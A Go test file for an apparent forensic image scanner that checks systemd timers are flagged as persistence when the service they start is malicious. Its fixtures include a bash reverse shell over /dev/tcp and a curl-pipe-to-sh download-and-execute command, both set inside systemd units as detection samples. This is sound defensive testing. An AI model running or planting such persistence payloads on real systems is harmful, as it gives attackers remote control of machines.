package shell_test

import (
	"testing"

	"github.com/strata-forensics/strata/audit"
	"github.com/strata-forensics/strata/audit/shell"
	"github.com/strata-forensics/strata/forensics/imagebuild"
)

// A timer is how its unit's payload comes back on schedule: the timer is reported when the
// unit it starts (its Unit=, or the service of its own name, where systemd looks for it) is
// flagged, and not when the unit is clean or missing.
func TestTimerStartsFlaggedUnit(t *testing.T) {
	files := []imagebuild.File{
		// a user timer and its service, side by side
		imagebuild.Reg("/root/.config/systemd/user/sync.timer", "[Unit]\nDescription=sync\n[Timer]\nOnBootSec=1min\nOnUnitActiveSec=5min\n[Install]\nWantedBy=timers.target\n"),
		imagebuild.Reg("/root/.config/systemd/user/sync.service", "[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'\n"),
		// a system timer naming another unit, kept in another unit directory
		imagebuild.Reg("/etc/systemd/system/apt-refresh.timer", "[Timer]\nOnCalendar=hourly\nUnit=cache-clean.service\n"),
		imagebuild.Reg("/lib/systemd/system/cache-clean.service", "[Service]\nType=oneshot\nExecStart=/bin/sh -c 'curl -fsSL http://198.51.100.7/u.sh | sh'\n"),
		// clean shapes: a clean unit, and a timer whose unit the image lacks
		imagebuild.Reg("/lib/systemd/system/logrotate.timer", "[Timer]\nOnCalendar=daily\nPersistent=true\n"),
		imagebuild.Reg("/lib/systemd/system/logrotate.service", "[Service]\nType=oneshot\nExecStart=/usr/sbin/logrotate /etc/logrotate.conf\n"),
		imagebuild.Reg("/etc/systemd/system/orphan.timer", "[Timer]\nOnCalendar=daily\n"),
	}
	res := scanImage(t, imagebuild.Image{Layers: []imagebuild.Layer{{Files: files}}})
	got := map[string][]audit.Finding{}
	for _, f := range res.Findings {
		got[f.Path] = append(got[f.Path], f)
	}
	for _, p := range []string{"/root/.config/systemd/user/sync.timer", "/etc/systemd/system/apt-refresh.timer"} {
		ok := false
		for _, f := range got[p] {
			ok = ok || f.Rule == shell.RuleStagedSystemd && f.Severity >= audit.High && f.Is(audit.CategoryPersistence)
		}
		if !ok {
			t.Errorf("%s: want %s at high or above, got:\n%s", p, shell.RuleStagedSystemd, dumpFindings(got[p]))
		}
	}
	for _, p := range []string{"/lib/systemd/system/logrotate.timer", "/etc/systemd/system/orphan.timer", "/lib/systemd/system/logrotate.service"} {
		if len(got[p]) > 0 {
			t.Errorf("%s: want nothing, got:\n%s", p, dumpFindings(got[p]))
		}
	}
}
